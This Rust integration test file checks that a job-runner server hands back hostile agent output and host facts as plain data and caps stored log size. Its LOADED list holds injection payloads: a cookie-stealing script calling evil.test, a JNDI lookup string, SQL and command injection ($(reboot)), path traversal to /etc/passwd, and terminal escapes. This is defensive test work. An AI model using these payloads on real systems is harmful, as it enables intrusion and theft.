//! Output and what else a host writes: it comes back as the data it is, and no more of it is kept than was asked for.

use muster_schemas::{
    jobs::{JobState, Outcome},
    problems::ProblemCode,
};
use muster_tests::world::{accepted, finished, output, result, started};
use serde_json::json;

use crate::scene::{Scene, size};

/// Texts that mean something to somebody: terminals, browsers, shells, log collectors, file systems.
pub const LOADED: [&str; 12] = [
    "\u{1b}[2J\u{1b}]0;pwned\u{7}",
    "<script>fetch('//evil.test/'+document.cookie)</script>",
    "\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n",
    "muster-log-complete: true\r\n\r\n",
    "'; DROP TABLE items; --",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}<%= 7*7 %>$(reboot)`reboot`",
    "../../../../etc/passwd",
    "\u{202e}\u{2066}txt.exe\u{0}",
    "\u{FEFF}\u{FFFE}\u{FFFF}\u{10FFFF}",
    "2026-03-02T12:00:00Z ERROR forged line",
    "\u{0}\u{1}\u{2}\u{3}\u{4}\u{7f}\u{85}\u{9b}2J",
];

#[tokio::test]
async fn output_that_means_something_to_a_terminal_or_a_browser_comes_back_as_text() {
    let mut scene = Scene::new().await;
    let job = scene.own_job().await;
    scene.hostile.tells(job, LOADED.map(output).to_vec()).await.is(200);
    let log = scene.world.viewer().await.get(&format!("/api/v1/jobs/{job}/log")).await.is(200);
    assert_eq!(log.text(), LOADED.concat());
    assert_eq!(log.header("content-type"), "text/plain; charset=utf-8");
    assert_eq!(log.header("x-content-type-options"), "nosniff");
    assert_eq!(log.header("muster-log-complete"), "false");
    assert!(log.headers.get("set-cookie").is_none());
    scene.stays_unharmed().await;
}

#[tokio::test]
async fn bytes_that_are_no_text_are_no_request() {
    let mut scene = Scene::new().await;
    let job = scene.own_job().await;
    let path = format!("/api/v1/agent/jobs/{job}/events");
    let (session, process) = (scene.hostile.session, scene.hostile.agent.process_id);
    let body = |text: &[u8]| {
        let head = format!(
            r#"{{"session":{session},"process_id":"{process}","events":[{{"sequence":1,"at":"2026-03-02T12:00:00Z","type":"output","text":""#
        );
        [head.as_bytes(), text, br#""}]}"#].concat()
    };
    for text in [
        &b"\xff"[..],
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\\ud800",
        b"\\udc00\\ud800",
        b"\x00",
        b"\n",
        b"\\x41",
    ] {
        scene.posts_text(&path, body(text)).await.refused(ProblemCode::Malformed);
    }
    scene.posts_text(&path, body(b"\\ud83e\\udd80")).await.is(200);
    assert_eq!(scene.world.sees_job(job).await.log_bytes, 4);
    scene.stays_unharmed().await;
}

#[tokio::test]
async fn no_more_output_is_kept_than_was_asked_for_however_it_comes() {
    let mut scene = Scene::new().await;
    let spec = json!({ "kind": "run", "spec": { "argv": ["/bin/yes"], "output_limit_bytes": 100_000 } });
    let job = scene.world.job(scene.hostile.id(), &spec).await.id;
    scene.hostile.check_in().await;
    let large = "x".repeat(60_000);
    for _ in 0..20 {
        scene.hostile.tells(job, vec![output(&large); 10]).await.is(200);
        scene.hostile.agent.process_id = scene.world.process();
        scene.hostile.tells_from(job, 1, vec![output(&large)]).await.is(200);
    }
    assert_eq!(scene.world.sees_job(job).await.log_bytes, 100_000);
    scene.hostile.tells(job, vec![output(&"x".repeat(64 * 1024 + 1))]).await.refused(ProblemCode::Invalid);
    scene.stays_unharmed().await;
}

#[tokio::test]
async fn output_in_crumbs_makes_no_record_of_each_crumb() {
    let mut scene = Scene::new().await;
    let job = scene.own_job().await;
    scene.hostile.tells(job, vec![accepted(), started()]).await.is(200);
    let (records, _) = size(&scene.world).await;
    for _ in 0..50 {
        scene.hostile.tells(job, vec![output("x"); 80]).await.is(200);
    }
    assert_eq!(scene.world.sees_job(job).await.log_bytes, 4_000);
    let more = size(&scene.world).await.0 - records;
    assert!(more <= 50, "{more} records for 50 requests");
    scene.stays_unharmed().await;
}

#[tokio::test]
async fn a_log_in_crumbs_is_read_in_bounded_steps_and_none_of_it_is_lost() {
    let mut scene = Scene::new().await;
    let job = scene.own_job().await;
    let mut written = String::new();
    for number in 0..1_500_u32 {
        let text = char::from(b'a' + u8::try_from(number % 26).unwrap()).to_string();
        written.push_str(&text);
        scene.hostile.tells(job, vec![output(&text)]).await.is(200);
        if number % 300 == 299 {
            scene.world.moves(10);
        }
    }
    scene.hostile.tells(job, vec![finished(result(Outcome::Succeeded, scene.world.now()))]).await.is(200);
    let viewer = scene.world.viewer().await;
    let mut read = String::new();
    loop {
        scene.world.table.take();
        let answer = viewer.get(&format!("/api/v1/jobs/{job}/log?after={}", read.len())).await.is(200);
        let queries = scene.world.table.take().of("query").calls;
        assert!(queries <= 40, "one answer took {queries} queries");
        read.push_str(&answer.text());
        assert_eq!(answer.header("muster-log-next"), read.len().to_string());
        if answer.header("muster-log-complete") == "true" {
            break;
        }
        assert!(!answer.text().is_empty(), "no answer without a step");
    }
    assert_eq!(read, written);
    scene.stays_unharmed().await;
}

#[tokio::test]
async fn output_after_the_end_is_not_kept() {
    let mut scene = Scene::new().await;
    let job = scene.own_job().await;
    scene
        .hostile
        .tells(job, vec![output("before"), finished(result(Outcome::Failed, scene.world.now()))])
        .await
        .is(200);
    let (records, bytes) = size(&scene.world).await;
    for _ in 0..30 {
        scene.hostile.tells(job, vec![output("after"); 80]).await.is(200);
    }
    let seen = scene.world.sees_job(job).await;
    assert_eq!((seen.state, seen.log_bytes), (JobState::Failed, 6));
    let (now, grown) = size(&scene.world).await;
    assert!(now == records && grown < bytes + 100, "{now} for {records} records, {grown} for {bytes} bytes");
    scene.stays_unharmed().await;
}

#[tokio::test]
async fn what_a_host_calls_itself_comes_back_as_data_and_as_nothing_else() {
    let mut scene = Scene::new().await;
    let mut is_named = false;
    for loaded in LOADED.into_iter().chain(LOADED) {
        let mut session = scene.session();
        session["facts"]["hostname"] = json!(loaded);
        session["facts"]["os"] = json!(loaded);
        session["facts"]["ip_addresses"] = json!([loaded, loaded]);
        session["facts"]["labels"] = json!({ "role": "admin" });
        session["agent"]["version"] = json!(loaded);
        session["agent"]["boot_id"] = json!(loaded);
        scene.posts("/api/v1/agent/session", &session).await.is(200);
        let seen = scene.world.sees_host(scene.hostile.id()).await;
        assert_eq!((seen.facts.hostname.as_str(), seen.facts.os.as_str()), (loaded, loaded));
        assert_eq!(seen.labels.len(), 0, "its labels are for operators");
        // Until an operator names it, it is called what it calls itself.
        assert!(!seen.name.chars().any(char::is_control), "{:?}", seen.name);
        assert!(!is_named || seen.name == "hostile", "{:?}", seen.name);
        if !is_named && loaded == LOADED[LOADED.len() - 1] {
            is_named = true;
            let path = format!("/api/v1/hosts/{}", scene.hostile.id());
            scene.world.operator().await.patch(&path, &json!({ "name": "hostile" })).await.is(200);
        }
        let list = scene.world.viewer().await.get("/api/v1/hosts").await.is(200);
        assert_eq!(list.header("content-type"), "application/json");
        assert!(!list.text().contains('\u{1b}'), "a control character is escaped in JSON");
    }
    scene.stays_unharmed().await;
}
